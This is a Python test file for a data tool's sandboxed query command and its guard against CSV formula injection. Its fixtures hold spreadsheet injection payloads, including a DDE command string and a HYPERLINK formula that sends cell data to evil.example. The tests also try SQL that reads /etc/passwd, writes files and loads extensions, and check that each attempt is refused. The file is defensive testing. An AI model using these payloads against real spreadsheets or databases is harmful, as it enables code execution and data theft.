"""Issue 9: ``ronghe query`` is sandboxed, and its CSV is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest

from tests.support.factories import project_row, write_csv
from tests.support.hardening import cli, ingest_and_publish, one_line_error
from transforms.cells import safe_cell

NASTY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("q")
    home = base / "home"
    inbox = base / "inbox"
    inbox.mkdir()
    rows = [project_row(pid=f"P{i}", name=n) for i, n in enumerate(NASTY)]
    write_csv(inbox / "projects_nasty.csv", rows)
    result = ingest_and_publish(home, [inbox])
    assert result.rows_loaded == len(NASTY)
    return home


def _refused(home: Path, sql: str) -> str:
    proc = cli("query", sql, home=home)
    assert proc.returncode == 1, (sql, proc.stdout, proc.stderr)
    return one_line_error(proc)


def test_query_cannot_write_the_working_copy(published: Path, tmp_path: Path) -> None:
    work = published / "work" / "warehouse.duckdb"
    assert work.exists()
    before = work.read_bytes()
    err = _refused(published, f"ATTACH '{work}' AS w (READ_WRITE)")
    assert "disabled" in err or "Permission" in err
    _refused(published, f"ATTACH '{work}' AS w")
    assert work.read_bytes() == before


def test_query_cannot_write_files(published: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    _refused(published, f"COPY (SELECT 1) TO '{out}'")
    _refused(published, f"COPY core.projects TO '{out}' (FORMAT csv)")
    _refused(published, f"EXPORT DATABASE '{tmp_path / 'dump'}'")
    assert not out.exists() and not (tmp_path / "dump").exists()
    assert list(tmp_path.iterdir()) == []


def test_query_cannot_read_the_machine(published: Path) -> None:
    assert (
        "root:" not in cli("query", "SELECT * FROM read_csv('/etc/passwd')", home=published).stdout
    )
    _refused(published, "SELECT * FROM read_csv('/etc/passwd')")
    _refused(published, "SELECT * FROM read_text('/etc/passwd')")
    _refused(published, "SELECT * FROM read_blob('/etc/passwd')")
    _refused(published, "SELECT * FROM glob('/root/*')")
    _refused(published, "SELECT * FROM sniff_csv('/etc/passwd')")


def test_query_cannot_install_load_or_reconfigure(published: Path) -> None:
    _refused(published, "INSTALL httpfs")
    _refused(published, "FORCE INSTALL httpfs")
    _refused(published, "LOAD httpfs")
    _refused(published, "SET enable_external_access = true")
    _refused(published, "RESET enable_external_access")
    _refused(published, "SET lock_configuration = false")
    _refused(published, "SET autoinstall_known_extensions = true")


def test_query_still_reads_the_warehouse(published: Path) -> None:
    proc = cli("query", "SELECT count(*) AS n FROM core.projects", home=published)
    assert proc.returncode == 0, proc.stderr
    assert str(len(NASTY)) in proc.stdout
    # the writer is not sandboxed: a later run still works on the same home
    con = duckdb.connect(str(published / "warehouse.duckdb"), read_only=True)
    assert con.execute("SELECT count(*) FROM meta.runs").fetchone() == (1,)
    con.close()


def test_query_csv_neutralises_formulas(published: Path) -> None:
    proc = cli(
        "query",
        "SELECT name, '-5' AS text_minus, -5 AS number FROM core.projects ORDER BY project_id",
        "--format",
        "csv",
        home=published,
    )
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout, newline="")))
    assert rows[0] == ["name", "text_minus", "number"]
    names = sorted(r[0] for r in rows[1:])
    # the reader trims a leading tab or CR (values are trimmed); what is left is quoted
    assert names == sorted("'" + n.strip() for n in NASTY)
    for r in rows[1:]:
        assert r[0][0] == "'" and r[1] == "'-5" and r[2] == "-5"


def test_safe_cell_rule() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell(" =1+1") == "' =1+1"
    assert safe_cell("\t@x") == "'\t@x"
    assert safe_cell("　=1") == "'　=1"  # a full-width space trimmed by a spreadsheet
    assert safe_cell("南通") == "南通"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("") == ""
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell(1.5) == 1.5


def test_units_csv_uses_the_same_guard(tmp_path: Path) -> None:
    proc = cli("units", "--format", "csv", home=tmp_path / "home")
    assert proc.returncode == 0, proc.stderr
    for row in csv.reader(io.StringIO(proc.stdout, newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
